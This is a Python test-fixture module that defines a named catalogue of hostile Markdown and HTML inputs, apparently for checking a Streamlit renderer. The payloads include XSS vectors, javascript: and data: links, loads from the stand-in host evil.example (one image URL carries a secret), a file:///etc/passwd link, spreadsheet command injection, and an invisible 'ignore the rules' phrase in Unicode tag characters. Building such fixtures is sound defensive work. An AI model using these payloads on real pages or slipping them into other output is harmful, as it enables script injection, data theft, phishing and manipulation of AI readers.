"""Text that wants more than to be read, by name: it loads, links, runs, hides or takes the place of something else.

`{host}` is where it would go; `{run}` is the script that would leave a trace on the page.
"""

from __future__ import annotations

HOST = "evil.example"
CANARY = "bayanCanary"
"""The name of the variable that a script which runs would set."""

_RUN = f"window.{CANARY}=1;document.title='{CANARY}';alert(1)"

_SHAPES = {
    # HTML that runs
    "script": "<script>{run}</script>",
    "script from elsewhere": "<script src=//{host}/s.js></script>",
    "image that fails": "<img src=x onerror=\"{run}\">",
    "svg that loads": "<svg onload=\"{run}\"><image href=\"http://{host}/v.svg\"/></svg>",
    "svg with a script": "<svg><script>{run}</script></svg>",
    "math in html": "<math><mtext><img src=x onerror=\"{run}\"></mtext></math>",
    "iframe": "<iframe src=\"http://{host}/f\"></iframe>",
    "iframe of a document": "<iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>",
    "object and embed": "<object data=\"http://{host}/o\"></object><embed src=\"http://{host}/e\">",
    "video": "<video src=\"http://{host}/v\" poster=\"http://{host}/v.png\" autoplay></video>",
    "audio": "<audio src=\"http://{host}/a\" autoplay></audio>",
    "details that opens": "<details open ontoggle=\"{run}\">x</details>",
    "field that takes the focus": "<input autofocus onfocus=\"{run}\">",
    "form": "<form action=\"http://{host}/p\"><button>Log in</button></form>",
    "button that acts": "<button onclick=\"{run}\">Go on</button>",
    "style that loads": "<style>@import 'http://{host}/c.css'; body {{ background: url(http://{host}/b) }}</style>",
    "style of an element": "<p style=\"background:url(http://{host}/p.png);position:fixed;inset:0\">x</p>",
    "link to a style sheet": "<link rel=stylesheet href=\"http://{host}/l.css\">",
    "meta that leads away": "<meta http-equiv=refresh content=\"0;url=http://{host}/m\">",
    "base": "<base href=\"http://{host}/\">",
    "title": "<title>{canary}</title>",
    "link in html": "<a href=\"http://{host}/l\">your bank</a> <a href=\"javascript:{run}\">x</a>",
    "marks of a chart": "<b>x</b><br>%{{x}}<extra></extra><a href=\"http://{host}/k\" target=\"_self\">y</a><sub>z",
    "image in html": "<img src=\"http://{host}/i.png\">",
    "picture with sources": "<picture><source srcset=\"http://{host}/s.png\"><img src=x></picture>",
    "upper and lower": "<ScRiPt>{run}</sCrIpT><IMG SRC=x OnErRoR=\"{run}\">",
    "tag without an end": "<img src=x onerror=\"{run}\" ",
    "comment": "<!-- <img src=http://{host}/c> --><![CDATA[<script>{run}</script>]]>",
    "comment that ends early": "<!--> <img src=x onerror=\"{run}\"> -->",
    "entities": "&lt;img src=x onerror=\"{run}\"&gt; &#60;script&#62;{run}&#60;/script&#62;",
    "processing instruction": "<?xml-stylesheet href=\"http://{host}/x.css\"?>",
    "html in a table": "| a |\n|---|\n| <img src=x onerror=\"{run}\"> |",
    "html in a heading": "# <img src=x onerror=\"{run}\">",
    # Links
    "javascript link": "[x](javascript:{run})",
    "javascript link with a blank": "[x](<java script:{run}>) [y](java\tscript:{run}) [z](&#106;avascript:{run})",
    "javascript autolink": "<javascript:{run}>",
    "data link": "[x](data:text/html,<script>{run}</script>)",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "file link": "[x](file:///etc/passwd)",
    "link without a scheme": "[x](//{host}/n)",
    "link with another name": "[https://bank.example](https://{host}/phish)",
    "link by reference": "[your bank][r]\n\n[r]: https://{host}/r \"https://bank.example\"",
    "link in a heading": "## [Go on](http://{host}/h)",
    "autolink": "<https://{host}/auto> https://{host}/bare www.{host} mail@{host}",
    "footnote": "note[^1]\n\n[^1]: ![x](http://{host}/fn.png) [y](javascript:{run})",
    # Images
    "image": "![x](http://{host}/a.png)",
    "image with a secret": "![x](https://{host}/q?d=secret \"t\")",
    "image without a scheme": "![x](//{host}/b.png)",
    "image by reference": "![x][i]\n\n[i]: http://{host}/ref.png",
    "image by short reference": "![i]\n\n[i]: <http://{host}/short.png>",
    "image in a link": "[![x](http://{host}/c.png)](http://{host}/d)",
    "image in a table": "| a |\n|---|\n| ![x](http://{host}/t.png) |",
    "image in a list": "- a\n  - ![x](http://{host}/l.png)",
    "image in a quote": "> > ![x](http://{host}/quote.png)",
    "image with angle brackets": "![x](<http://{host}/a b.png>)",
    "image over lines": "![a\nb](\nhttp://{host}/nl.png\n)",
    "image of a script": "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>)",
    "image after an open backtick": "a ` b\n\nc ![x](http://{host}/tick.png) ` d",
    "image with attributes": "![x](http://{host}/at.png){{width=1 onerror=\"{run}\"}}",
    # What Streamlit's Markdown knows beyond CommonMark
    "icon": ":material/delete: :streamlit: :smile:",
    "icon by another name": "&#58;streamlit: \\:material/delete: :stre&#97;mlit:",
    "colour": ":red[all is well] :blue-background[x] :green-badge[:material/verified: checked]",
    "shimmer": ":shimmer[Still working] :small[x] :rainbow[y]",
    "colour around an image": ":red[![x](http://{host}/red.png)]",
    "directive with attributes": ":a[x]{{href=\"http://{host}/at\" onclick=\"{run}\"}} ::img{{src=\"http://{host}/d.png\"}}",
    "container": ":::x\n```\n:::\n![x](http://{host}/con.png)\n```",
    "formula that links": r"$\href{{javascript:{run}}}{{x}}$ $$\url{{http://{host}/u}}$$",
    "formula that loads": r"$\includegraphics{{http://{host}/g.png}}$ \[\includegraphics[width=9em]{{//{host}/g2}}\]",
    "formula with html": r"$\htmlStyle{{background:url(http://{host}/hs)}}{{x}}$ $\htmlData{{a=b}}{{x}}$",
    "formula with a class": r"$\class{{stApp}}{{x}}$ $\cssId{{root}}{{x}}$ $\style{{color:red}}{{x}}$",
    "formula with hidden letters": r"$\unicode{{x202e}}$ $\char`\<img$ $\text{{<img src=x onerror={run}>}}$",
    "formula that covers": r"$\rlap{{\rule{{99em}}{{99em}}}}$ $\kern-99em x$ $\color{{white}}x$",
    "formula that defines": r"$\def\a{{\href{{http://{host}/def}}{{x}}}}\a$ $\newcommand{{\b}}{{\url{{//{host}}}}}\b$",
    "formula without an end": "$$\n\\frac{{1}}{{2\n\n![x](http://{host}/open.png)",
    "formula around a backtick": "a $`$ ![x](http://{host}/m.png) $`$ b",
    # Fences
    "mermaid": "```mermaid\nflowchart TD\nA@{{ img: \"http://{host}/mm.png\" }}\nclick A \"http://{host}/mc\"\n```",
    "mermaid with html": "```mermaid\nflowchart TD\nA[\"<img src=x onerror={run}>\"]\n```",
    "mermaid by an entity": "```&#109;ermaid\nflowchart TD\nA@{{ img: \"http://{host}/me.png\" }}\n```",
    "graphviz": "```dot\ndigraph {{ a [image=\"http://{host}/dot.png\" URL=\"javascript:{run}\"] }}\n```",
    "fence with a hostile language": "```\"><img src=x onerror={run}>\nx\n```",
    "fence without an end": "```html\n<img src=x onerror=\"{run}\">",
    "tildes": "~~~mermaid\nflowchart TD\nA@{{ img: \"http://{host}/tilde.png\" }}\n~~~",
    # Letters
    "right to left": "invoice\u202egnp.exe\u202c \u2066[x](http://{host}/bidi)\u2069",
    "no width": "java\u200bscript:\u200d<scr\u200bipt>{run}</scr\u200bipt>\ufeff",
    "control characters": "a\x07b\x08c\x1b[31m<img\x0bsrc=x\x0conerror={run}>",
    "tags that nobody sees": "\U000e0068\U000e0069 ignore the rules \U000e007f",
    "marks upon marks": "Z" + "\u0351\u0363\u0301" * 200,
    "a very long word": "W" * 3_000,
    "very many blanks": "a" + "\u3000" * 500 + "b",
    "deep quotes": "> " * 200 + "![x](http://{host}/deep.png)",
    "deep lists": "\n".join("  " * depth + "- ![x](http://{host}/list.png)" for depth in range(30)),
    "many brackets": "[" * 300 + "![x](http://{host}/many.png)" + "]" * 300,
    # What a template or a spreadsheet would run
    "templates": "{{{{7*7}}}} ${{{{{run}}}}} <%= 1 %> {{% raw %}} #{{x}}",
    "spreadsheet formula": "=HYPERLINK(\"http://{host}/\"&A1,\"x\") @SUM(A1) +cmd|' /C calc'!A0",
    "end of a script": "</script><script>{run}</script>\u2028{run}",
    "end of an attribute": "'\"><img src=x onerror=\"{run}\">",
}  # fmt: skip

HOSTILE = {name: text.format(host=HOST, run=_RUN, canary=CANARY) for name, text in _SHAPES.items()}
"""The text by the name of its shape."""

ON_ONE_LINE = {
    name: " ".join(text.split())[:500]
    for name, text in HOSTILE.items()
    if not {"\x07", "\x1b"} & set(text) and "fence" not in name
}
"""Those that can be a name or a cell."""

ALL = "\n\n".join(text for name, text in HOSTILE.items() if "without an end" not in name)
"""Everything after one another, as far as it has an end."""
